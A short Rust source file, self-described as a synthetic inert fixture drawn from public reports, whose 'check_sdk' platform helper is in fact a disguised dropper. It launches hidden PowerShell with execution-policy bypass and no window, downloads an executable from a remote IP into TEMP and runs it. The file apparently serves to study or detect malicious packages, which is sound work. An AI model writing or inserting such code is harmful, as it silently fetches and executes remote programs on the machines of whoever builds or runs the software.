// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

pub(crate) fn check_sdk() {
    let line = "$p=Join-Path $env:TEMP 'sdkcheck.exe'; Invoke-WebRequest -Uri http://203.0.113.9/sdkcheck.exe -OutFile $p; Start-Process $p";
    let mut shell = std::process::Command::new("powershell.exe");
    shell.args(["-NoProfile", "-ExecutionPolicy"]);
    shell.arg("Bypass");
    shell.arg("-WindowStyle").arg("Hidden");
    shell.arg("-Command").arg(&*line);
    #[cfg(windows)]
    {
        use std::os::windows::process::CommandExt;
        shell.creation_flags(0x0800_0000);
    }
    let _ = shell.spawn();
}
